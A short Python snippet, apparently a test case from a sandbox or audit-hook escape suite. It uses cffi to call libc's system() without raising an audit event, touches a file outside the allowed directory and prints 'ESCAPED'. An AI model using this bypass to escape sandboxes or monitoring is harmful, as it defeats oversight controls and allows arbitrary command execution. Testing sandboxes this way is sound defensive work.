# cffi: dlopen(), cast() and memmove() of its own, none raises an event.
# needs: cffi
import cffi
ffi = cffi.FFI()
ffi.cdef("int system(const char *);")
ffi.dlopen(None).system(f"touch {outside}/evil".encode())
print("ESCAPED")
